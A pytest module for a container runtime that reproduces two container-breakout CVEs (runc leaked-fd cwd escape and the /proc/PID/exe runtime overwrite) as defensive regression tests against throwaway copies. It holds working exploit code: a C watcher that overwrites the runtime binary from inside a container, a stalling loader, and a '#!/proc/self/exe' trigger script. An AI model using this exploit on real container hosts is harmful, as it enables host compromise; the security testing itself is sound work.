"""Two classes of container breakout, attacked for real: berth-runtime, with runc beside it.

CVE-2024-21626 (runc, 2024): a file descriptor of the runtime leaked into the container (a host
directory), so a process.cwd or `exec --cwd` of /proc/self/fd/N started the container's process
with a working directory on the host. Checked here: the container's process holds only 0, 1, 2,
its working directory is inside the container ("/" or the configured one; walking up with ".."
ends at the container's "/"), in `run` and in `exec` (with --cwd too), and a cwd of
/proc/self/fd/N is refused or stays inside.

CVE-2019-5736 (runc, 2019): a process in the container made the runtime execute itself inside
the container (a script whose interpreter is #!/proc/self/exe), held the runtime's binary through
/proc/PID/exe, and once the runtime exited reopened it for writing and replaced it. For
berth-runtime that binary is the Python interpreter its script runs on. berth's defences: the
runtime is not dumpable while it is in the container (PR_SET_DUMPABLE 0), and the install makes
the interpreter immutable (chattr +i), which root in a container (no CAP_LINUX_IMMUTABLE) cannot
undo. The attack runs against a throwaway copy of the interpreter (a venv with --copies in the
test's tmp dir), never the machine's Python.

The in-container tools are two small programs built here with gcc (the busybox rootfs has no
compiler): `cvehelper` (static; `check` lists fds and the cwd, `watch` is the attacker), and a
stand-in for the dynamic loader (no libc, x86_64) that the attacker puts at the interpreter's
PT_INTERP path in the container, so that the runtime's binary, started in the container, stays
alive (its /proc/PID/exe pointing at the host file) until the attacker has it.
"""

from __future__ import annotations

import hashlib
import os
import platform
import shutil
import subprocess
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from berth.runtime.capabilities import DOCKER_DEFAULT
from berth.runtime.seccomp import default_profile
from helpers.bundle import make_bundle
from oci_runtimes import OCIRuntime, Result, runtime_binary, unique_cgroups_path, unique_id

HELPER_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* check: the open fds (found with fcntl, so that listing them opens nothing), the cwd as
   /proc/self/cwd and getcwd(3) show it, and whether walking up from it with ".." ends at "/"
   (the kernel stops ".." at the process root: a cwd outside the root never reaches it). */
static int check(void) {
    char path[64], target[4096], buf[4096];
    for (int fd = 0; fd < 4096; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n < 0 ? 0 : n] = 0;
        printf("fd %d %s\n", fd, n < 0 ? "?" : target);
    }
    ssize_t n = readlink("/proc/self/cwd", target, sizeof target - 1);
    target[n < 0 ? 0 : n] = 0;
    printf("cwd %s\n", n < 0 ? "?" : target);
    if (getcwd(buf, sizeof buf)) printf("getcwd %s\n", buf);
    else printf("getcwd ERR %s\n", strerror(errno));
    struct stat root, cur, up;
    int d = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (stat("/", &root) < 0 || d < 0) { printf("escape ?\n"); return 0; }
    for (int i = 0; i < 4096; i++) {
        int p = openat(d, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (p < 0 || fstat(d, &cur) < 0 || fstat(p, &up) < 0) { printf("escape ?\n"); return 0; }
        close(d);
        d = p;
        if (cur.st_dev == up.st_dev && cur.st_ino == up.st_ino) break;
    }
    fstat(d, &cur);
    printf("escape %s\n", cur.st_dev == root.st_dev && cur.st_ino == root.st_ino ? "no" : "yes");
    printf("end\n");
    return 0;
}

static FILE *status;
static void say(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vfprintf(status, fmt, ap);
    va_end(ap);
    fputc('\n', status);
    fflush(status);
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void nap(long us) {
    struct timespec ts = {0, us * 1000};
    nanosleep(&ts, NULL);
}

static int gone(long pid) {
    char path[64], st[512];
    snprintf(path, sizeof path, "/proc/%ld/stat", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 1;
    ssize_t n = read(fd, st, sizeof st - 1);
    close(fd);
    if (n <= 0) return 1;
    st[n] = 0;
    char *p = strrchr(st, ')');
    return p && p[1] == ' ' && (p[2] == 'Z' || p[2] == 'X');
}

/* watch STATUS RELEASE SECONDS: the attacker. Wait for a new process whose executable is not one
   of the container's own (busybox, this program), hold its /proc/PID/exe with O_PATH, create
   RELEASE (the stand-in loader then lets the process exit), wait until it is gone, then reopen
   the held file for writing (retrying while the kernel says ETXTBSY: some process, the runtime
   itself, still runs it) and write a marker over its first bytes. */
static int watch(const char *status_path, const char *release, double seconds) {
    status = fopen(status_path, "a");
    if (!status) return 2;
    struct stat self, bb, st;
    stat("/proc/self/exe", &self);
    stat("/bin/busybox", &bb);
    static char denied[1 << 22];
    double end = now() + seconds;
    int held = -1;
    long target = 0;
    say("READY pid=%d", getpid());
    while (held < 0 && now() < end) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while (proc && (e = readdir(proc))) {
            long pid = strtol(e->d_name, NULL, 10);
            if (pid <= 1 || pid == getpid()) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
            int fd = open(path, O_PATH);
            if (fd < 0) {
                if (errno == EACCES && pid < (long)sizeof denied && !denied[pid]) {
                    denied[pid] = 1;
                    say("DENIED pid=%ld (not dumpable)", pid);
                }
                continue;
            }
            if (fstat(fd, &st) == 0 &&
                !(st.st_dev == self.st_dev && st.st_ino == self.st_ino) &&
                !(st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
                held = fd;
                target = pid;
                say("GOT pid=%ld dev=%lu ino=%lu", pid, (unsigned long)st.st_dev,
                    (unsigned long)st.st_ino);
                break;
            }
            close(fd);
        }
        if (proc) closedir(proc);
    }
    if (held < 0) { say("NOGOT"); say("DONE"); return 0; }
    close(open(release, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    while (!gone(target) && now() < end) nap(1000);
    say("TARGET-GONE %d", gone(target));
    char me[64];
    snprintf(me, sizeof me, "/proc/self/fd/%d", held);
    int busy = 0;
    while (now() < end) {
        int w = open(me, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            const char marker[] = "CVE-2019-5736 marker written from inside a container\n";
            ssize_t n = pwrite(w, marker, sizeof marker - 1, 0);
            say("WRITE-OK wrote=%zd errno=%d after_busy=%d", n, n < 0 ? errno : 0, busy);
            close(w);
            say("DONE");
            return 0;
        }
        if (errno != ETXTBSY) {
            say("WRITE-FAIL errno=%d %s after_busy=%d", errno, strerror(errno), busy);
            say("DONE");
            return 0;
        }
        busy++;
        nap(2000);
    }
    say("WRITE-TIMEOUT still busy after %d tries", busy);
    say("DONE");
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && !strcmp(argv[1], "check")) return check();
    if (argc >= 5 && !strcmp(argv[1], "watch")) return watch(argv[2], argv[3], atof(argv[4]));
    fprintf(stderr, "usage: cvehelper check | watch STATUS RELEASE SECONDS\n");
    return 2;
}
"""

# The stand-in loader: no libc (it starts in place of ld.so, with the aux vector of another
# program), x86_64 syscalls only. It waits until RELEASE exists (at most ~10 s) and exits 0.
STALL_C = r"""
#define RELEASE "/tmp/cve-release"
static long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c)
                      : "rcx", "r11", "memory");
    return r;
}
__attribute__((force_align_arg_pointer)) void _start(void) {
    struct { long s, ns; } ts = {0, 1000000};
    for (int i = 0; i < 10000; i++) {
        if (sys3(21 /* access */, (long)RELEASE, 0, 0) == 0) break;
        sys3(35 /* nanosleep */, (long)&ts, 0, 0);
    }
    sys3(231 /* exit_group */, 0, 0, 0);
    for (;;) {}
}
"""

STATUS_FILE = "/tmp/cve-status"
RELEASE_FILE = "/tmp/cve-release"
DOCKER_CAPS = list(DOCKER_DEFAULT)


def docker_like(**overrides: object) -> dict:
    """Config overrides: docker's default capabilities and seccomp profile, a cgroupsPath of
    its own, then `overrides` (merged on top by make_bundle)."""
    caps = {k: DOCKER_CAPS for k in ("bounding", "effective", "permitted", "inheritable")}
    base = {"hostname": "probe",
            "process": {"capabilities": {**caps, "ambient": []}},
            "linux": {"seccomp": default_profile(DOCKER_CAPS),
                      "cgroupsPath": unique_cgroups_path()}}
    for key, value in overrides.items():
        if isinstance(value, dict) and isinstance(base.get(key), dict):
            base[key] = {**base[key], **value}  # type: ignore[dict-item]
        else:
            base[key] = value
    return base


# --- building the in-container tools --------------------------------------------------------

class Tools:
    def __init__(self, helper: Path, stall: Path | None, stall_reason: str) -> None:
        self.helper = helper
        self.stall = stall
        self.stall_reason = stall_reason


def _gcc(args: list[str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["gcc", *args], capture_output=True, text=True, timeout=120)


@pytest.fixture(scope="module")
def tools(tmp_path_factory: pytest.TempPathFactory) -> Tools:
    if shutil.which("gcc") is None:
        pytest.skip("gcc is not installed: it builds the in-container helper "
                    "(apt-get install gcc libc6-dev)")
    d = tmp_path_factory.mktemp("cve-tools")
    (d / "helper.c").write_text(HELPER_C)
    r = _gcc(["-static", "-O2", "-o", str(d / "cvehelper"), str(d / "helper.c")])
    if r.returncode != 0:
        pytest.skip(f"cannot build a static helper (is libc6-dev installed?):\n{r.stderr}")
    stall, reason = None, ""
    if platform.machine() != "x86_64":
        reason = f"the stand-in loader is written for x86_64, not {platform.machine()}"
    else:
        (d / "stall.c").write_text(STALL_C)
        r = _gcc(["-nostdlib", "-static", "-no-pie", "-O2", "-fno-stack-protector",
                  "-fno-asynchronous-unwind-tables", "-o", str(d / "stall"), str(d / "stall.c")])
        if r.returncode == 0:
            stall = d / "stall"
        else:
            reason = f"cannot build the stand-in loader:\n{r.stderr}"
    return Tools(d / "cvehelper", stall, reason)


def install(src: Path, rootfs: Path, dest: str) -> None:
    target = rootfs / dest.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(src, target)
    target.chmod(0o755)


def facts(text: str) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for line in text.splitlines():
        key, _, value = line.partition(" ")
        out.setdefault(key, []).append(value)
    return out


# --- CVE-2024-21626: descriptors and working directory -----------------------------------------

def assert_contained(res: Result, cwd: str) -> None:
    f = facts(res.stdout)
    assert res.returncode == 0 and f.get("end"), res.describe()
    fds = sorted(int(v.split(" ", 1)[0]) for v in f.get("fd", []))
    assert fds == [0, 1, 2], f"the container process holds more than stdio: {f.get('fd')}"
    assert f["cwd"] == [cwd], f"/proc/self/cwd is {f['cwd']}, expected {cwd}"
    assert f["getcwd"] == [cwd], f"getcwd() is {f['getcwd']}, expected {cwd}"
    assert f["escape"] == ["no"], "walking up from the cwd does not end at the container's /"


@pytest.mark.parametrize("cwd", ["/", "/tmp"])
def test_cve_2024_21626_run_holds_only_stdio_and_cwd_inside(
        oci_runtime: OCIRuntime, bundle, tools: Tools, cwd: str) -> None:
    b = bundle(["/cvehelper", "check"], **docker_like(process={"cwd": cwd}))
    install(tools.helper, b / "rootfs", "/cvehelper")
    assert_contained(oci_runtime.run(unique_id("cve"), b), cwd)


def test_cve_2024_21626_exec_holds_only_stdio_and_cwd_inside(
        oci_runtime: OCIRuntime, bundle, tools: Tools) -> None:
    b = bundle(["sleep", "60"], **docker_like())
    install(tools.helper, b / "rootfs", "/cvehelper")
    cid = unique_id("cve")
    try:
        started = oci_runtime.run_detached(cid, b)
        assert started.returncode == 0, started.describe()
        assert_contained(oci_runtime.exec(cid, "/cvehelper", "check"), "/")
        for cwd in ("/etc", "/tmp"):
            assert_contained(oci_runtime.exec(cid, "/cvehelper", "check",
                                              options=("--cwd", cwd)), cwd)
    finally:
        oci_runtime.delete(cid)


HOSTILE_FDS = range(3, 10)


def _refused_or_inside(res: Result, what: str) -> None:
    f = facts(res.stdout)
    if res.returncode != 0 and not f.get("end"):
        return  # refused: the process never ran
    assert f.get("escape") == ["no"] and f.get("getcwd", ["ERR"])[0].startswith("/"), (
        f"{what}: the container process runs with a working directory outside the "
        f"container\n{res.describe()}")


def test_cve_2024_21626_cwd_through_proc_self_fd_is_refused_or_inside(
        oci_runtime: OCIRuntime, bundle, tools: Tools) -> None:
    """The attack itself: a cwd of /proc/self/fd/N, for the fds a runtime might have open while
    it enters the container, in the config (`run`) and with `exec --cwd`."""
    for n in HOSTILE_FDS:
        b = bundle(["/cvehelper", "check"], **docker_like(process={"cwd": f"/proc/self/fd/{n}"}))
        install(tools.helper, b / "rootfs", "/cvehelper")
        _refused_or_inside(oci_runtime.run(unique_id("cve"), b), f"run, cwd /proc/self/fd/{n}")
    b = bundle(["sleep", "60"], **docker_like())
    install(tools.helper, b / "rootfs", "/cvehelper")
    cid = unique_id("cve")
    try:
        started = oci_runtime.run_detached(cid, b)
        assert started.returncode == 0, started.describe()
        for n in range(3, 16):
            res = oci_runtime.exec(cid, "/cvehelper", "check",
                                   options=("--cwd", f"/proc/self/fd/{n}"))
            _refused_or_inside(res, f"exec --cwd /proc/self/fd/{n}")
    finally:
        oci_runtime.delete(cid)


STRAY_FD = 20


def test_cve_2024_21626_a_stray_fd_of_the_caller_does_not_reach_the_container(
        oci_runtime: OCIRuntime, bundle, tools: Tools, tmp_path: Path) -> None:
    """The runtime is started holding an inheritable descriptor of a host directory (a careless
    caller, or a runtime bug leaking one into its own children): the container's process must
    not hold it, and a cwd of /proc/self/fd/N through it must be refused or stay inside."""
    host_dir = tmp_path / "host-dir"
    host_dir.mkdir()
    fd = os.open(host_dir, os.O_RDONLY | os.O_DIRECTORY)
    try:
        os.dup2(fd, STRAY_FD, inheritable=True)
        hostile = f"/proc/self/fd/{STRAY_FD}"
        b = bundle(["/cvehelper", "check"], **docker_like())
        install(tools.helper, b / "rootfs", "/cvehelper")
        assert_contained(oci_runtime.run(unique_id("cve"), b, pass_fds=(STRAY_FD,)), "/")
        b = bundle(["/cvehelper", "check"], **docker_like(process={"cwd": hostile}))
        install(tools.helper, b / "rootfs", "/cvehelper")
        _refused_or_inside(oci_runtime.run(unique_id("cve"), b, pass_fds=(STRAY_FD,)),
                           f"run, cwd {hostile} with the runtime holding a host directory there")
        b = bundle(["sleep", "60"], **docker_like())
        install(tools.helper, b / "rootfs", "/cvehelper")
        cid = unique_id("cve")
        try:
            started = oci_runtime.run_detached(cid, b)
            assert started.returncode == 0, started.describe()
            assert_contained(oci_runtime.exec(cid, "/cvehelper", "check",
                                              pass_fds=(STRAY_FD,)), "/")
            _refused_or_inside(oci_runtime.exec(cid, "/cvehelper", "check",
                                                options=("--cwd", hostile), pass_fds=(STRAY_FD,)),
                               f"exec --cwd {hostile} with the runtime holding a host directory")
        finally:
            oci_runtime.delete(cid)
    finally:
        os.close(fd)
        os.close(STRAY_FD)


# --- CVE-2019-5736: overwriting the runtime through /proc/PID/exe ------------------------------

def sha256(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def pt_interp(path: Path) -> str | None:
    """The PT_INTERP (dynamic loader) of a 64-bit ELF file, or None for a static one."""
    with open(path, "rb") as f:
        head = f.read(64)
        if head[:4] != b"\x7fELF" or head[4] != 2:
            return None
        order = "little" if head[5] == 1 else "big"
        phoff = int.from_bytes(head[32:40], order)
        phentsize = int.from_bytes(head[54:56], order)
        phnum = int.from_bytes(head[56:58], order)
        for i in range(phnum):
            f.seek(phoff + i * phentsize)
            ph = f.read(phentsize)
            if int.from_bytes(ph[0:4], order) == 3:  # PT_INTERP
                offset = int.from_bytes(ph[8:16], order)
                size = int.from_bytes(ph[32:40], order)
                f.seek(offset)
                return f.read(size).rstrip(b"\0").decode()
    return None


def shebang_interpreter(script: Path) -> Path:
    first = script.read_bytes().split(b"\n", 1)[0]
    assert first.startswith(b"#!"), f"{script} has no #! line"
    return Path(os.path.realpath(first[2:].decode().split()[0]))


def chattr(flag: str, path: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["chattr", flag, str(path)], capture_output=True, text=True)


class Target:
    """What the attack aims at: `binary`, the file that runs as the runtime (berth-runtime's
    interpreter, or runc itself), and `runtime`, the command line that runs on it."""

    def __init__(self, binary: Path, runtime: OCIRuntime, watched: list[Path]) -> None:
        self.binary = binary
        self.runtime = runtime
        self.watched = watched  # files that must come out of the attack unchanged


@pytest.fixture(scope="module")
def throwaway_venv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A venv (--copies) of the interpreter berth-runtime runs on, with berth's source on its
    path: its interpreter is a file of its own, safe to attack."""
    installed = runtime_binary("berth-runtime")
    if installed is None:
        pytest.fail("berth-runtime is not installed", pytrace=False)
    python = shebang_interpreter(installed)
    venv = tmp_path_factory.mktemp("attack") / "venv"
    subprocess.run([str(python), "-m", "venv", "--copies", "--without-pip", str(venv)],
                   check=True, capture_output=True, timeout=120)
    import berth
    src = Path(berth.__file__).resolve().parent.parent
    site = subprocess.run([str(venv / "bin" / "python3"), "-c",
                           "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
                          check=True, capture_output=True, text=True).stdout.strip()
    Path(site, "berth-src.pth").write_text(f"{src}\n")
    return venv


def berth_target(venv: Path, root: Path) -> Target:
    """A fresh copy of the venv's interpreter, and a berth-runtime script whose #! names it."""
    tag = uuid.uuid4().hex[:8]
    python = venv / "bin" / f"python3-attack-{tag}"
    shutil.copy2(venv / "bin" / "python3", python)
    script = venv / "bin" / f"berth-runtime-{tag}"
    script.write_text(f"#!{python}\nimport sys\nfrom berth.runtime.cli import main\n"
                      "sys.exit(main())\n")
    script.chmod(0o755)
    check = subprocess.run([str(script), "--version"], capture_output=True, text=True)
    assert check.returncode == 0, f"the throwaway berth-runtime does not start: {check.stderr}"
    return Target(python, OCIRuntime("berth-runtime", script, root), [python, script])


def attack(target: Target, bundle, tools: Tools, cleaner: OCIRuntime) -> dict[str, list[str]]:
    """Run the attack; return what the watcher reported. `cleaner` deletes the container (a
    runtime that the attack cannot have damaged)."""
    interp = pt_interp(target.binary)
    if interp is None:
        pytest.skip(f"{target.binary} is static: the stand-in loader has nowhere to go")
    setup = (f"printf '#!/proc/self/exe\\n' > /bin/evil && chmod 755 /bin/evil && "
             f"{{ /cvehelper watch {STATUS_FILE} {RELEASE_FILE} 20 & }} ; exec sleep 120")
    b = bundle(["sh", "-c", setup], **docker_like(root={"path": "rootfs", "readonly": False}))
    rootfs = b / "rootfs"
    install(tools.helper, rootfs, "/cvehelper")
    assert tools.stall is not None
    install(tools.stall, rootfs, interp)
    status = rootfs / STATUS_FILE.lstrip("/")
    cid = unique_id("cve")
    rt = target.runtime
    try:
        started = rt.run_detached(cid, b)
        assert started.returncode == 0, started.describe()
        _wait_for(status, "READY", 10)
        res = rt.exec(cid, "/bin/evil", timeout=60)
        _wait_for(status, "DONE", 30)
        report = facts(status.read_text())
        report["exec"] = [res.describe()]
        return report
    finally:
        cleaner.delete(cid)


def _wait_for(path: Path, word: str, timeout: float) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if path.exists() and any(line.startswith(word) for line in path.read_text().splitlines()):
            return
        time.sleep(0.01)
    text = path.read_text() if path.exists() else "(no status file)"
    pytest.fail(f"the watcher in the container did not report {word} in {timeout} s:\n{text}",
                pytrace=False)


def same_file(report: dict[str, list[str]], path: Path) -> bool:
    st = os.stat(path)
    for got in report.get("GOT", []):
        fields = dict(kv.split("=", 1) for kv in got.split() if "=" in kv)
        if int(fields["dev"]) == st.st_dev and int(fields["ino"]) == st.st_ino:
            return True
    return False


def describe(report: dict[str, list[str]]) -> str:
    return "\n".join(f"{k} {v}" for k, vs in report.items() for v in vs)


@pytest.fixture
def attack_target(oci_runtime: OCIRuntime, tools: Tools,
                  tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Target]:
    if tools.stall is None:
        pytest.skip(tools.stall_reason)
    if oci_runtime.name == "runc":
        # runc's answer is a sealed copy of itself in memory (memfd); attack a copy of runc
        # anyway, so that a regression could never damage the machine's runc.
        copy = tmp_path / "runc-copy"
        shutil.copy2(oci_runtime.binary, copy)
        yield Target(copy, OCIRuntime("runc", copy, oci_runtime.root), [copy])
        return
    venv = request.getfixturevalue("throwaway_venv")
    target = berth_target(venv, oci_runtime.root)
    r = chattr("+i", target.binary)
    if r.returncode != 0:
        pytest.skip(f"the filesystem of {target.binary} refuses chattr +i, berth's defence "
                    f"against this attack: {r.stderr.strip()}")
    try:
        yield target
    finally:
        chattr("-i", target.binary)


def test_cve_2019_5736_runtime_binary_cannot_be_overwritten(
        oci_runtime: OCIRuntime, attack_target: Target, bundle, tools: Tools) -> None:
    installed = runtime_binary("berth-runtime")
    assert installed is not None
    # The files that matter on this machine, and the throwaway ones under attack.
    watched = [*attack_target.watched, installed, shebang_interpreter(installed)]
    if oci_runtime.name == "runc":
        watched.append(oci_runtime.binary)
    before = {p: sha256(p) for p in watched}
    report = attack(attack_target, bundle, tools, cleaner=oci_runtime)
    changed = [str(p) for p in watched if sha256(p) != before[p]]
    assert not changed, f"overwritten from inside the container: {changed}\n{describe(report)}"
    assert "GOT" in report, f"the attack never got hold of a process:\n{describe(report)}"
    if same_file(report, attack_target.binary):
        # The attacker held the runtime's own binary: opening it for writing must have failed.
        assert "WRITE-FAIL" in report and "WRITE-OK" not in report, describe(report)
        if oci_runtime.name == "berth-runtime":
            assert report["WRITE-FAIL"][0].startswith("errno=1 "), (
                f"expected EPERM (immutable file): {report['WRITE-FAIL']}")


def test_cve_2019_5736_attack_works_on_an_unprotected_copy(
        bundle, tools: Tools, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory,
        request: pytest.FixtureRequest) -> None:
    """Evidence that the attack above is real: against a copy of the interpreter that is NOT
    immutable, the same attack overwrites it. Only ever a throwaway copy in the test's tmp dir."""
    if tools.stall is None:
        pytest.skip(tools.stall_reason)
    installed = runtime_binary("berth-runtime")
    assert installed is not None
    venv = request.getfixturevalue("throwaway_venv")
    root = tmp_path / "berth-attack-root"
    target = berth_target(venv, root)
    assert target.binary.resolve().is_relative_to(tmp_path_factory.getbasetemp())
    keep = {p: sha256(p) for p in (installed, shebang_interpreter(installed))}
    cleaner = OCIRuntime("berth-runtime", installed, root)
    before = sha256(target.binary)
    try:
        report = attack(target, bundle, tools, cleaner=cleaner)
    finally:
        cleaner.cleanup()
    assert all(sha256(p) == h for p, h in keep.items()), "the installed berth-runtime changed"
    assert same_file(report, target.binary), (
        f"the attack missed the interpreter:\n{describe(report)}")
    assert "WRITE-OK" in report, describe(report)
    assert sha256(target.binary) != before
    assert target.binary.read_bytes().startswith(b"CVE-2019-5736 marker")
